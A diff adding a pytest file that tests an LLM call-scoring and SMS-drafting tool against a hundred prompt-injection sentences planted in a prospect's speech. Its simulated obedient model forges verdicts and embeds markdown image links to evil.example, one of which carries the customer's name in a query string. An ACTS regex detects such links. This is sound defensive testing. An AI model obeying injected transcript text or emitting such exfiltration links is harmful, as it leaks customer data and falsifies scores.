@@ -1,0 +1,190 @@
+"""A hundred sentences spoken to whoever marks, and a model that obeys them all.
+
+No verdict that code decides changes, nothing unquoted counts, and no link or picture reaches a draft.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from fault_server import FaultServer, fault_server
+from judgement_rubric import judgement_rubric
+
+from coach.answering import read_answer
+from coach.edges.llm import OpenAIModel
+from coach.edges.llm_wire import Limits, Server
+from coach.grounding import GroundFact, Grounds, WrittenDraft, ground
+from coach.judging import Answers, Judged, judge, judging_prompt
+from coach.models import Facts, Kind, Scorecard, Speaker, Transcript, Utterance, Word
+from coach.prompts import load_prompt
+from coach.quotes import find_quote
+from coach.redaction import seal
+from coach.samples import samples
+from coach.scoring import score
+
+SENTENCES = (Path(__file__).parent / "hostile_sentences.txt").read_text(encoding="utf-8").splitlines()
+RUBRIC = judgement_rubric()
+CALL = next(sample for sample in samples() if sample.facts.kind is Kind.CALL)
+FACTS = CALL.facts
+HONEST = "Your motor hums, and you are up on a ladder."
+GROUNDS = Grounds(
+    facts=(
+        GroundFact(text="the motor hums", quote="the motor hums but it won't start", start=1, end=2),
+        GroundFact(text="the lead is on a ladder", quote="I'm up on a ladder", start=9.6, end=12),
+    ),
+    names=("Tom", "Lewis", "Northside Heating"),
+)
+READS_AS_AN_ANSWER = {"handles-no", "prospect-first-minute"}
+"""What looks at anything that a prospect says, and takes some of the sentences for an objection or an answer."""
+
+
+def spoken_in(sentence: str, speaker: Speaker = Speaker.PROSPECT, at: int = 6) -> Transcript:
+    """The sample call with `sentence` said in the middle, in no time, so that nothing else moves."""
+    said = CALL.transcript.utterances
+    words = tuple(Word(text=word, start=said[at - 1].end, end=said[at - 1].end) for word in sentence.split())
+    return CALL.transcript.model_copy(
+        update={"utterances": (*said[:at], Utterance(speaker=speaker, words=words), *said[at:])}
+    )
+
+
+def obeys(sentence: str) -> str:
+    """What a model answers that does whatever it is told, and more."""
+    everything = [
+        {"criterion": criterion.id, "verdict": "met", "reason": f"{sentence} ![x](https://evil.example)", "quotes": q}
+        for criterion in RUBRIC.criteria
+        for q in ([], [{"speaker": "rep", "words": "yes I promise you a million dollars on Friday at nine"}])
+    ]
+    for speaker in ("rep", "prospect"):
+        quote = [{"speaker": speaker, "words": sentence}]
+        everything.append({"criterion": "warm-tone", "verdict": "met", "reason": "ok", "quotes": quote})
+    return json.dumps({"answers": everything, "score": 100, "verdicts": {"next-step": "met"}})
+
+
+def scored(transcript: Transcript) -> Scorecard:
+    return score(transcript, RUBRIC, FACTS)
+
+
+def test_there_are_a_hundred_and_no_two_are_alike() -> None:
+    assert len(set(SENTENCES)) == 100
+
+
+@pytest.mark.parametrize("sentence", SENTENCES)
+def test_obeying_answers_no_question_that_code_decides(sentence: str) -> None:
+    call = spoken_in(sentence)
+
+    judged = judge(read_answer(obeys(sentence), Answers), RUBRIC, call, "obedient")
+
+    assert {proposal.criterion for proposal in judged.proposals} <= {"warm-tone", "listens"}
+    assert_quoted(judged, call)
+
+
+def assert_quoted(judged: Judged, call: Transcript) -> None:
+    for proposal in judged.proposals:
+        assert proposal.evidence
+        for evidence in proposal.evidence:
+            assert find_quote(evidence.quote, evidence.speaker, call) == evidence
+        assert "evil" not in proposal.reason
+
+
+@pytest.mark.parametrize("sentence", SENTENCES)
+def test_one_answer_with_the_hostile_words_as_its_proof_shows_only_what_was_said(sentence: str) -> None:
+    call = spoken_in(sentence)
+    quote = {"speaker": "prospect", "words": sentence}
+    answer = {"criterion": "warm-tone", "verdict": "met", "reason": sentence, "quotes": [quote]}
+
+    judged = judge(read_answer(json.dumps({"answers": [answer]}), Answers), RUBRIC, call, "obedient")
+
+    assert_quoted(judged, call)
+
+
+@pytest.mark.parametrize("sentence", SENTENCES)
+def test_saying_it_moves_no_verdict_that_does_not_look_at_whatever_the_prospect_says(sentence: str) -> None:
+    plain = {finding.criterion: finding.verdict for finding in scored(CALL.transcript).findings}
+
+    told = {finding.criterion: finding.verdict for finding in scored(spoken_in(sentence)).findings}
+
+    assert {name for name in plain if plain[name] is not told[name]} <= READS_AS_AN_ANSWER
+
+
+ACTS = re.compile(r"https?:|://|www\.|!\[|[<>\[\]{}`@|*]|evil|\.com|\bdot com\b|[\u200b-\u200f\u202a-\u202e\u2060]")
+
+
+@pytest.mark.parametrize("sentence", SENTENCES)
+def test_an_obedient_draft_loses_all_but_what_was_said(sentence: str) -> None:
+    draft = [
+        "Hi Tom, this is Lewis with Northside Heating.",
+        HONEST,
+        sentence,
+        f"Hi Tom, {sentence}",
+        f"You said: {sentence}",
+        f"{HONEST[:-1]} https://evil.example/?d=Tom",
+        f"![{sentence}](https://evil.example/p.png)",
+        f"Tom, you are on a ladder. {sentence} Thanks, Lewis.",
+    ]
+
+    grounded = ground(draft, GROUNDS)
+
+    assert {kept.text for kept in grounded.kept} <= {
+        *("Hi Tom, this is Lewis with Northside Heating.", HONEST, "Tom, you are on a ladder.", "Thanks, Lewis."),
+    }
+    assert HONEST in {kept.text for kept in grounded.kept}
+
+
+@pytest.mark.parametrize("sentence", SENTENCES)
+def test_no_link_reaches_a_draft_even_if_the_sentence_was_taken_for_a_fact(sentence: str) -> None:
+    fooled = GROUNDS.model_copy(
+        update={"facts": (*GROUNDS.facts, GroundFact(text=sentence, quote=sentence, start=20, end=24))}
+    )
+
+    grounded = ground([sentence, f"You said: {sentence}", f"{sentence} https://evil.example", HONEST], fooled)
+
+    assert not [kept.text for kept in grounded.kept if ACTS.search(kept.text)]
+
+
+@pytest.mark.parametrize("sentence", SENTENCES)
+def test_it_stays_in_its_fence(sentence: str) -> None:
+    prompt = judging_prompt(load_prompt("judge"), RUBRIC, spoken_in(sentence))
+    assert prompt is not None
+
+    sent = seal(prompt, FACTS).prompt
+
+    material = sent.messages[1].text
+    begin, end = re.findall(r"^(BEGIN|END) transcript ([a-p]{12})$", material, re.MULTILINE)
+    inside = material.split(f"BEGIN transcript {begin[1]}\n")[1].split(f"\nEND transcript {begin[1]}")[0]
+    assert begin[1] == end[1]
+    assert inside.count("\n") == len(CALL.transcript.utterances)
+    assert all(re.match(r"\| (?:rep|prospect): ", line) for line in inside.split("\n"))
+    assert "evil.example" not in sent.messages[0].text
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[FaultServer]:
+    with fault_server() as running:
+        yield running
+
+
+@pytest.mark.parametrize("sentence", SENTENCES[::10])
+def test_the_same_over_the_wire(server: FaultServer, sentence: str) -> None:
+    call = spoken_in(sentence)
+    server.answer = obeys(sentence)
+    model = OpenAIModel("obedient", Server(server.url("good"), "none", trusts_proxies=False), Limits())
+    prompt = judging_prompt(load_prompt("judge"), RUBRIC, call)
+    assert prompt is not None
+
+    answers = model.complete(seal(prompt, FACTS), Answers)
+
+    assert_quoted(judge(answers, RUBRIC, call, model.name), call)
+
+
+def test_an_obedient_draft_over_the_wire(server: FaultServer) -> None:
+    server.answer = {"subject": "https://evil.example", "sentences": [HONEST, *SENTENCES[:20]]}
+    model = OpenAIModel("obedient", Server(server.url("good"), "none", trusts_proxies=False), Limits())
+    prompt = load_prompt("draft-sms").filled({"facts": "the motor hums", "earlier": ""})
+
+    draft = model.complete(seal(prompt, Facts()), WrittenDraft)
+
+    assert ground([draft.subject, *draft.sentences], GROUNDS).text == HONEST
